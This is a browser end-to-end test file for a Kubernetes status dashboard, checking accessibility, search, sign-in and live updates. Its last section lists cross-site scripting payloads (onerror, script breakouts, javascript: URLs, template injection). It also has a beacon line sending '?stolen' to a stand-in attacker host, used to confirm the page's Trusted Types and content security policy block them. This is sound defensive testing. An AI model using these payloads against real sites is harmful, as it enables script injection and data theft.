import { once } from 'node:events';
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, request } from 'node:http';
import { createRequire } from 'node:module';
import type { AddressInfo } from 'node:net';
import { fileURLToPath } from 'node:url';
import type axe from 'axe-core';
import type { Browser, BrowserContext, ConsoleMessage, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, onTestFinished, vi } from 'vitest';
import type { StatusProbeStatus } from '../../src/api/generated.ts';
import { serveWeb, type WebServer } from '../../src/web/server.ts';
import { startBrowser } from '../support/browser.ts';
import { judgedScenario } from '../support/judged-scenario.ts';
import { createShownProbes, failing, fine, type ShownProbeStore } from '../support/shown-probes.ts';

const AXE = readFileSync(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8');
const IMAGES = new URL('../../docs/images/', import.meta.url);
const NOW = new Date('2026-11-23T10:30:00Z');
const VIEWER = { name: 'ann@example.com', mayList: async () => true };

// A browser takes its time where much else runs.
vi.setConfig({ testTimeout: 60_000 });

let browser: Browser;

beforeAll(async () => {
  browser = await startBrowser();
}, 300_000);
afterAll(() => browser?.close());

async function serve(probes: ShownProbeStore): Promise<WebServer> {
  const server = await serveWeb({
    address: { host: '127.0.0.1', port: 0 },
    probes,
    viewerOf: async (token) => (token === 'good' ? VIEWER : undefined),
    onError: (error) => expect.unreachable(String(error)),
    paceMilliseconds: 10,
  });
  onTestFinished(() => server.close());
  return server;
}

interface Opened {
  readonly page: Page;
  readonly context: BrowserContext;
  /** What the browser complained about: errors of scripts, and all that the policy forbids. */
  readonly complaints: readonly string[];
}

const COMPLAINT = /Content Security Policy|TrustedHTML|Error/;

/** Opens the page as somebody with the token, at a fixed time. */
async function open(
  { url }: Pick<WebServer, 'url'>,
  {
    path = '#key=good',
    ...options
  }: { readonly path?: string; readonly colorScheme?: 'dark' | 'light' } = {},
): Promise<Opened> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, ...options });
  onTestFinished(() => context.close());
  const page = await context.newPage();
  const complaints: string[] = [];
  page.on('pageerror', (error) => complaints.push(String(error)));
  page.on('console', (message: ConsoleMessage) => {
    if (COMPLAINT.test(message.text())) complaints.push(message.text());
  });
  await page.clock.setFixedTime(NOW);
  await page.goto(`${url}${path}`);
  return { page, context, complaints };
}

const rows = (page: Page) => page.locator('tbody tr:not(.group)');
const names = (page: Page) => rows(page).locator('th a').allTextContents();

const LAST_FAILURE = {
  startTime: '2026-11-23T10:00:00Z',
  endTime: '2026-11-23T10:20:00Z',
  owner: 'Developer',
  reason: 'CrashLoop',
  summary: 'The container crashed',
};

/** The demonstration: verdicts of real diagnoses. */
async function example(): Promise<ShownProbeStore> {
  const probes = createShownProbes();
  const scenarios = [
    ['shop', 'cart', '502--target-port-number-wrong'],
    ['shop', 'checkout', '503--deployment-scaled-to-0'],
    ['shop', 'search', '503--selector-value-misspelt'],
    ['payments', 'api', '500--stack-trace-in-the-log'],
    ['payments', 'callback', '403--waf-managed-rule-blocks'],
    ['payments', 'ledger', '503--image-tag-missing'],
    ['media', 'thumbnails', '503--out-of-memory'],
    ['media', 'upload', '413--body-above-the-limit-of-the-ingress'],
  ] as const;
  for (const [index, [namespace, name, scenario]] of scenarios.entries()) {
    const status = await judgedScenario(scenario);
    const since = new Date(NOW.getTime() - (index + 1) * 13 * 60_000).toISOString();
    probes.put(namespace, name, {
      ...status,
      target: `http://${name}.${namespace}.example.com/`,
      conditions: (status.conditions ?? []).map((each) => ({ ...each, lastTransitionTime: since })),
      failingSince: since,
      lastProbe: {
        success: false,
        finalURL: '',
        ...status.lastProbe,
        time: NOW.toISOString(),
        url: `http://${name}.${namespace}.example.com/`,
        durationMilliseconds: { resolve: 4, connect: 11, tls: 0, processing: 61, transfer: 3, total: 79 },
      },
      changes: [
        {
          time: new Date(Date.parse(since) - 40_000).toISOString(),
          subject: { kind: 'Deployment', namespace, name, ref: `Deployment/${name}` },
          message: 'the image changed to shop:1.9.0',
          manager: 'kubectl-client-side-apply',
        },
      ],
      links: [{ name: 'Logs in Grafana', url: 'https://grafana.example.com/explore?left=%7B%7D' }],
      history: [
        {
          time: since,
          healthy: 'False',
          code: 502,
          owner: status.verdict?.owner ?? '',
          reason: status.verdict?.reason ?? '',
        },
        { time: '2026-11-23T04:00:00Z', healthy: 'True', code: 200 },
        { time: '2026-11-23T03:10:00Z', healthy: 'False', owner: 'Developer', reason: 'ApplicationSlow' },
        { time: '2026-11-22T22:00:00Z', healthy: 'True', code: 200 },
      ],
    });
  }
  for (const name of ['home', 'login', 'orders', 'prices', 'stock'])
    probes.put('shop', name, {
      ...fine,
      target: `http://${name}.shop.example.com/`,
      lastFailure: LAST_FAILURE,
    });
  return probes;
}

/** All that axe-core finds against WCAG 2.2 A and AA and its best practices. */
async function violations(page: Page): Promise<readonly string[]> {
  // Evaluated by the debugger, so the page's own policy stays as it is.
  await page.evaluate(AXE);
  const found = (await page.evaluate('axe.run(document)')) as axe.AxeResults;
  return found.violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html).join(' | ')}`);
}

/** A picture of the documentation, made anew where UPDATE_SCREENSHOTS is set. */
async function picture(page: Page, name: string): Promise<void> {
  const image = await page.screenshot({ fullPage: true });
  const file = fileURLToPath(new URL(name, IMAGES));
  if (process.env.UPDATE_SCREENSHOTS !== undefined) {
    mkdirSync(IMAGES, { recursive: true });
    writeFileSync(file, image);
  }
  const size = (png: Buffer) => [png.readUInt32BE(16), png.readUInt32BE(20)];
  expect(size(readFileSync(file))[0]).toEqual(size(image)[0]);
}

describe.each(['light', 'dark'] as const)('in %s colours', (colorScheme) => {
  it('the list and a StatusProbe are accessible', async () => {
    const server = await serve(await example());
    const { page, complaints } = await open(server, { colorScheme, path: '?group=owner#key=good' });
    await page.getByText('8 failing of 13').waitFor();
    expect(await violations(page)).toEqual([]);
    await picture(page, `web-list-${colorScheme}.png`);

    await page.getByRole('link', { name: 'shop/cart' }).click();
    await page.getByRole('heading', { name: 'Path of the request' }).waitFor();
    expect(await violations(page)).toEqual([]);
    await picture(page, `web-probe-${colorScheme}.png`);
    expect(complaints).toEqual([]);
  });
});

it('a StatusProbe shows verdict, path with the failing hop, fix, evidence, changes, latency and history', async () => {
  const { page } = await open(await serve(await example()), { path: '?probe=shop/cart#key=good' });
  await page.getByRole('heading', { name: 'shop/cart' }).waitFor();
  const summary = 'Service shop sends to port 8081, where nothing listens; its Pods open 8080';
  await page.locator('.summary', { hasText: summary }).waitFor();
  const stations = page.locator('.path > li');
  expect(await stations.locator('h3').allTextContents()).toEqual([
    'DNS',
    'Load balancer',
    'WAF',
    'Ingress',
    'Service',
    'Endpoints',
    'Pods',
    'Application',
  ]);
  expect(await page.locator('[aria-current=step] h3').allTextContents()).toEqual(['Service']);
  expect(await page.locator('[aria-current=step]').innerText()).toMatch(/✗ failed\s+the cause is here/);
  expect(await page.locator('h2').allTextContents()).toEqual([
    'Path of the request',
    'Fix',
    'Evidence',
    'Changed shortly before',
    'Look further',
    'Latency',
    'History',
    'Could not look',
    'Last probe',
  ]);
  expect(
    await page.getByRole('img', { name: 'DNS 4 ms, connect 11 ms, TLS 0 ms, processing 61 ms' }).count(),
  ).toBe(1);
  const widths = await page
    .locator('.bar rect')
    .evaluateAll((all) => all.map((each) => each.getBoundingClientRect().width));
  expect(widths.slice(0, 5).filter((width) => width > 0)).toHaveLength(4);
  expect(await page.locator('.transitions li').count()).toBe(4);
  expect(await page.getByText('the image changed to shop:1.9.0').isVisible()).toBe(true);
  const elsewhere = page.getByRole('link', { name: 'Logs in Grafana' });
  expect(await elsewhere.getAttribute('href')).toBe('https://grafana.example.com/explore?left=%7B%7D');
  expect(await elsewhere.getAttribute('rel')).toBe('noreferrer noopener');
  expect(await page.title()).toBe('shop/cart – statusprobe');
});

it('symptoms are told from their cause, and a recovery tells what it was', async () => {
  const server = await serve(await example());
  const failed = await open(server, { path: '?probe=payments/ledger#key=good' });
  const symptom = failed.page.locator('.findings li', { hasText: 'NoReadyEndpoints' });
  await symptom.getByText('symptom').waitFor();
  expect(await failed.page.locator('[aria-current=step] h3').allTextContents()).toEqual(['Pods']);
  const recovered = await open(server, { path: '?probe=shop/home#key=good' });
  await recovered.page.getByText('Before:').waitFor();
  expect(await recovered.page.locator('.verdict').innerText()).toMatch(
    /Before: Developer CrashLoop, ended 10 minutes ago\. The container crashed/,
  );
  expect(await recovered.page.locator('[aria-current=step]').count()).toBe(0);
});

it('fix and commands can be copied', async () => {
  const { page, context } = await open(await serve(await example()), { path: '?probe=shop/cart#key=good' });
  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.getByRole('button', { name: 'Copy command 1' }).click();
  await page.getByText('Copied.').waitFor();
  expect(await page.evaluate('navigator.clipboard.readText()')).toBe(
    `kubectl -n 'shop' patch service 'shop' --type=json -p '[{"op":"replace","path":"/spec/ports/0/targetPort","value":8080}]'`,
  );
});

it('everything can be done by the keyboard alone, and the focus is never lost', async () => {
  const { page } = await open(await serve(await example()));
  await page.getByText('8 failing of 13').waitFor();
  const focused = () => page.evaluate('document.activeElement.innerText || document.activeElement.tagName');
  const tabTo = async (wanted: string) => {
    for (let steps = 0; steps < 40; steps += 1) {
      await page.keyboard.press('Tab');
      if ((await focused()) === wanted) return;
    }
    throw new Error(`The keyboard does not reach ${wanted}`);
  };
  await tabTo('INPUT');
  await page.keyboard.type('targetport');
  await page.getByText('1 failing of 1').waitFor();
  expect(await names(page)).toEqual(['shop/cart']);
  await tabTo('shop/cart');
  const ring = await page.evaluate('getComputedStyle(document.activeElement).outlineStyle');
  expect(ring).toBe('solid');
  await page.keyboard.press('Enter');
  await page.getByRole('heading', { name: 'Fix' }).waitFor();
  expect(await focused()).toBe('shop/cart');
  await tabTo('Copy');
  await page.keyboard.press('Shift+Tab');
  expect(await focused()).toBe('← All StatusProbes');
  await page.keyboard.press('Enter');
  await page.getByText('1 failing of 1').waitFor();
  expect(await focused()).toBe('StatusProbes');
  await page.goBack();
  await page.getByRole('heading', { name: 'Fix' }).waitFor();
});

describe('with 5,000 StatusProbes', () => {
  const many = (): ShownProbeStore => {
    const probes = createShownProbes();
    for (let index = 0; index < 5_000; index += 1) {
      const namespace = `team-${String(index % 50).padStart(2, '0')}`;
      const owner = ['DevOps', 'Developer', 'Both'][index % 3] ?? '';
      const status: Partial<StatusProbeStatus> = index % 10 === 0 ? failing(owner, 'ScaledToZero') : fine;
      probes.put(namespace, `probe-${String(index).padStart(4, '0')}`, {
        ...status,
        target: `http://host-${index}.test/`,
      });
    }
    return probes;
  };

  it('draws a hundred of them, and finds any by search, filter, group and page', async () => {
    const { page } = await open(await serve(many()));
    await page.getByText('500 failing of 5000').waitFor();
    expect(await rows(page).count()).toBe(100);
    expect(await page.locator('.badge.bad').count()).toBe(100);

    await page.getByLabel('Search').fill('HOST-4990. devops');
    await page.getByText('0 failing of 0').waitFor();
    await page.getByLabel('Search').fill('HOST-4990. developer');
    await page.getByText('1 failing of 1').waitFor();
    expect(await names(page)).toEqual(['team-40/probe-4990']);
    await page.getByLabel('Search').fill('');

    await page.getByLabel('Namespace').selectOption('team-07');
    await page.getByText('0 failing of 100').waitFor();
    await page.getByLabel('Namespace').selectOption('');
    await page.getByLabel('Owner').selectOption('Both');
    await page.getByText('166 failing of 166').waitFor();
    await page.getByLabel('Group by').selectOption('namespace');
    await page.getByRole('rowheader', { name: 'team-00 33 failing of 33' }).waitFor();
    await page.getByRole('button', { name: 'Next' }).click();
    await page.getByText('101 to 166 of 166').waitFor();
    expect(await rows(page).count()).toBe(66);
    expect(new URL(page.url()).search).toBe('?owner=Both&group=namespace&page=2');
    await page.reload();
    await page.getByText('101 to 166 of 166').waitFor();
    await page.getByLabel('Health').selectOption('True');
    await page.getByText('No StatusProbe fits these filters.').waitFor();
  });

  it('a change shows by itself, in the list and in the open StatusProbe', async () => {
    const probes = many();
    const server = await serve(probes);
    const [list, one] = await Promise.all([
      open(server, { path: '?search=host-7.#key=good' }),
      open(server, { path: '?probe=team-07/probe-0007#key=good' }),
    ]);
    await list.page.getByText('0 failing of 1').waitFor();
    await one.page.getByText('The answer is as expected').waitFor();
    probes.put('team-07', 'probe-0007', {
      ...failing('Developer', 'CrashLoop'),
      target: 'http://host-7.test/',
    });
    await list.page.getByText('1 failing of 1').waitFor();
    await one.page.getByText('CrashLoop happened').waitFor();
    probes.delete('team-07/probe-0007');
    await list.page.getByText('0 failing of 0').waitFor();
    await one.page.getByText('There is no such StatusProbe that you may see.').waitFor();
  });
});

it('fits into 320 pixels', async () => {
  const server = await serve(await example());
  for (const path of ['#key=good', '?probe=shop/cart#key=good']) {
    const { page } = await open(server, { path });
    await page.setViewportSize({ width: 320, height: 700 });
    await page
      .getByText(/8 failing of 13|Service shop sends/)
      .first()
      .waitFor();
    expect(await page.evaluate('document.documentElement.scrollWidth')).toBe(320);
  }
});

it('works below a path of a proxy that signs its users in', async () => {
  const { url } = await serve(await example());
  const proxy = createServer(({ url: asked = '' }, response) => {
    const within = new URL(asked.replace(/^\/status\//, ''), url);
    const sent = request(within, { headers: { authorization: 'Bearer good' } }, (answer) => {
      response.writeHead(answer.statusCode ?? 502, answer.headers);
      answer.pipe(response);
    });
    response.on('close', () => sent.destroy());
    sent.on('error', () => response.destroy()).end();
  }).listen(0, '127.0.0.1');
  await once(proxy, 'listening');
  onTestFinished(() => {
    proxy.closeAllConnections();
    proxy.close();
  });
  const { port } = proxy.address() as AddressInfo;
  const { page, complaints } = await open(
    { url: `http://127.0.0.1:${port}/status/` },
    { path: '?probe=shop/cart' },
  );
  await page.getByText('ann@example.com').waitFor();
  await page.getByRole('heading', { name: 'Fix' }).waitFor();
  await page.getByRole('link', { name: '← All StatusProbes' }).click();
  await page.getByText('8 failing of 13').waitFor();
  expect(new URL(page.url()).pathname).toBe('/status/');
  expect(complaints).toEqual([]);
});

describe('signing in', () => {
  it('asks for a token, refuses a wrong one, and keeps the right one nowhere', async () => {
    const { page, context } = await open(await serve(await example()), { path: '' });
    const field = page.getByLabel('Bearer token');
    await field.fill('bad');
    await page.getByRole('button', { name: 'Sign in' }).click();
    await field.waitFor();
    expect(await page.getByText('8 failing').count()).toBe(0);
    expect(await violations(page)).toEqual([]);
    await field.fill('good');
    await page.keyboard.press('Enter');
    await page.getByText('8 failing of 13').waitFor();
    expect(page.url()).not.toContain('good');
    expect((await context.storageState()).cookies).toEqual([]);
    expect(await page.evaluate('[localStorage.length, sessionStorage.length]')).toEqual([0, 0]);
    await page.reload();
    await field.waitFor();
  });

  it('says that the connection is lost, and is live again when the server is back', async () => {
    const probes = await example();
    const server = await serve(probes);
    const { page } = await open(server);
    await page.getByText('● live').waitFor();
    await server.close();
    await page.getByText('connection lost').waitFor();
    expect(await rows(page).count()).toBe(13);
    const again = await serveWeb({
      address: { host: '127.0.0.1', port: Number(new URL(server.url).port) },
      probes,
      viewerOf: async () => VIEWER,
      onError: () => {},
    });
    onTestFinished(() => again.close());
    await page.clock.resume();
    await page.getByText('● live').waitFor();
  });
});

describe('what came from a target is text', () => {
  const HOSTILE = [
    '<img src=x onerror="window.hacked=1">',
    '"><script>window.hacked=1</script>',
    'javascript:window.hacked=1//',
    '</textarea></title><svg/onload=window.hacked=1>',
    '{{constructor.constructor("window.hacked=1")()}}',
    '<!--?lit$123$--><iframe srcdoc="<script>parent.hacked=1</script>">',
    '<style>body{display:none}</style>',
    '\u202eevil\u202c',
  ];

  /** The same value with a hostile text for every text of it. */
  const poisoned = (value: unknown, text: string): unknown => {
    if (typeof value === 'string') return text;
    if (Array.isArray(value)) return value.map((each) => poisoned(each, text));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, poisoned(each, text)]));
  };

  it.each(HOSTILE)('%s', async (text) => {
    const probes = createShownProbes();
    const real = (await example()).get('shop', 'cart')?.status as StatusProbeStatus;
    const lastFailure = { startTime: '', endTime: '', owner: '', reason: '', summary: '' };
    const status = poisoned({ ...real, lastFailure }, text) as StatusProbeStatus;
    const conditions = (status.conditions ?? []).map((each) => ({
      ...each,
      type: 'Healthy',
      status: 'False' as const,
    }));
    probes.put('shop', 'cart', { ...status, conditions });
    const { page, complaints } = await open(await serve(probes));
    await page.getByText('1 failing of 1').waitFor();
    expect((await rows(page).allInnerTexts()).join()).toContain(text);
    await page.getByRole('link', { name: 'shop/cart' }).click();
    await page.getByRole('heading', { name: 'Path of the request' }).waitFor();
    expect(await page.locator('.summary').innerText()).toBe(text);
    expect(await page.evaluate('window.hacked')).toBeUndefined();
    expect(await page.locator('img, iframe, script:not([src]), main style, svg:not(.bar)').count()).toBe(0);
    const addresses = await page
      .locator('[href], [src]')
      .evaluateAll((all) => all.map((each) => each.getAttribute('href') ?? each.getAttribute('src') ?? ''));
    expect(
      addresses.filter((address) => !/^(?:src\/web\/page|node_modules\/lit-html|\?)/.test(address)),
    ).toEqual([]);
    expect(complaints).toEqual([]);
  });

  it('and what got in all the same would neither run nor get out', async () => {
    const { page, complaints } = await open(await serve(await example()));
    await page.getByText('8 failing of 13').waitFor();
    for (const attempt of [
      `document.body.innerHTML = '<img src=x onerror="window.hacked=1">'`,
      `document.body.append(Object.assign(document.createElement('script'), { text: 'window.hacked=1' }))`,
      `document.body.append(Object.assign(document.createElement('script'), { src: '/' }))`,
      `document.body.setAttribute('onclick', 'window.hacked=1')`,
    ])
      await expect(page.evaluate(`(() => { ${attempt} })()`)).rejects.toThrow(/Trusted/);
    await page.evaluate(`void (new Image().src = '//attacker.test/?stolen')`);
    await expect.poll(() => complaints.join(), { timeout: 10_000 }).toMatch(/attacker\.test[\s\S]*img-src/);
    expect(await page.evaluate('window.hacked')).toBeUndefined();
  });
});
